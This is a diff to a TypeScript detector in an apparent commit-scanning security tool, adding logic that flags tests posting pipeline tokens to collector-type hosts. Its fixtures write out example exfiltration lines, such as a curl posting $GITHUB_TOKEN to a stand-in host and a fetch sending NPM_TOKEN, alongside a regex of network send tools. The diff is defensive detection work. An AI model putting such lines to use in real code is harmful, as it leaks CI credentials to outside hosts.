@@ -1,13 +1,16 @@
 import { z } from "zod";
 import { defineDetector, type Signal } from "../../model/detector.ts";
-import type { CommitEvidence, FileChange } from "../../model/evidence.ts";
+import type { CommitEvidence, FileChange, Line } from "../../model/evidence.ts";
 import { aChange } from "../../model/examples.ts";
 import { addedSinks } from "../../text/added-sinks.ts";
 import { DUMPS_ENVIRONMENT, ENCODES, SERIALISES_ENVIRONMENT, TALKS, WALKS_ENVIRONMENT } from "../../text/calls.ts";
 import { clip } from "../../text/clip.ts";
 import { visible } from "../../text/lines.ts";
 import { newCode, newText } from "../../text/new-lines.ts";
+import { isCode } from "../../text/path-classes.ts";
+import { pipelineTokens } from "../../text/pipeline-tokens.ts";
 import { type Place, placeOf } from "../../text/places.ts";
+import { isSample } from "../../text/samples.ts";
 import { foreignToken } from "../../text/token-owners.ts";
 import { collectorNamed, type HostKind, kindOfUrl, urlsIn } from "../../text/url.ts";
 
@@ -28,6 +31,11 @@ const WHAT: Readonly<Record<HostKind, string>> = {
 /** Sends, in any language and in commands. */
 const SENDS =
   /(?<![\w-])(?:curl|wget|nslookup|dig|ncat?|iwr|irm|Invoke-(?:WebRequest|RestMethod))(?![\w-])|\bsendBeacon\b|\.(?:post|put|send|request|get)\s{0,3}\(|\bfetch\s{0,3}\(|\burlopen\b|\bhttp\.(?:Get|Post)\b/i;
+
+/** Lines around a request of a test in which its content may stand. */
+const AROUND = 8;
+/** Kinds of host that nobody sends credentials to in good faith. */
+const COLLECTS: readonly unknown[] = ["call-back", "collector", "onion", "drop", "paste"] satisfies HostKind[];
 
 export default defineDetector({
   id: "exfil-endpoint",
@@ -77,6 +85,13 @@ export default defineDetector({
         name: "a token of one host sent to another",
         commit: aChange("build.sh", 'curl -d "token=$GITHUB_TOKEN" https://recv.example.net/'),
       },
+      {
+        name: "a pipeline's tokens posted to a collector by a test",
+        commit: aChange(
+          "test/run.test.js",
+          `await fetch("https://${COLLECTOR}/x", {\n  method: "POST",\n  body: process.env.NPM_TOKEN,\n});`,
+        ),
+      },
     ],
     passes: [
       {
@@ -101,7 +116,13 @@ export default defineDetector({
       if (place === "data" && !/\.(?:json5?|ya?ml|toml|cfg|ini|conf|env)$/i.test(file.path)) return [];
       if (!file.facts.script && !/:\/\/|curl|wget|environ|process\.env/.test(newText(commit, file))) return [];
       const lines = newCode(commit, file);
-      const found = lines.flatMap((line) => fromLine(file, place, line.number, visible(line), allowedHosts));
+      const found = lines.flatMap((line, i) => {
+        const signals = fromLine(file, place, line.number, visible(line), allowedHosts);
+        // Pipelines run tests with their tokens: that a test sends them is no better than that a program does.
+        return place === "test" && signals.length > 0 && isCode(file.path) && !isSample(file.path)
+          ? signals.map((one) => withTokens(file, one, lines, i))
+          : signals;
+      });
       const sent = found.some(({ strength }) => strength === "strong") ? [] : environmentSent(commit, file, place);
       return [...found, ...sent].slice(0, 4);
     });
@@ -179,6 +200,27 @@ function fromLine(file: FileChange, place: Place, line: number, text: string, al
       },
     ];
   });
+}
+
+/** The signal of a test; strong where the lines around take a pipeline's tokens or the whole environment along. */
+function withTokens(file: FileChange, signal: Signal, lines: readonly Line[], at: number): Signal {
+  const named = signal.facts?.kind === undefined && typeof signal.facts?.host === "string" ? signal.facts.host : null;
+  const kind = named === null ? signal.facts?.kind : kindOfUrl({ url: `https://${named}/`, host: named });
+  if (!COLLECTS.includes(kind)) return signal;
+  const first = lines[at]?.number ?? 0;
+  const near = lines
+    .slice(Math.max(0, at - AROUND), at + AROUND + 1)
+    .filter(({ number }) => Math.abs(number - first) <= AROUND)
+    .map(visible)
+    .join("\n");
+  const tokens = pipelineTokens(near, file.path);
+  if (tokens === null || !SENDS.test(near)) return signal;
+  return {
+    ...signal,
+    strength: "strong",
+    confidence: 1,
+    because: `${signal.because}, and ${tokens} goes along`,
+  };
 }
 
 /** The environment is written down as text in lines that also talk to the network, or flows into a request. */
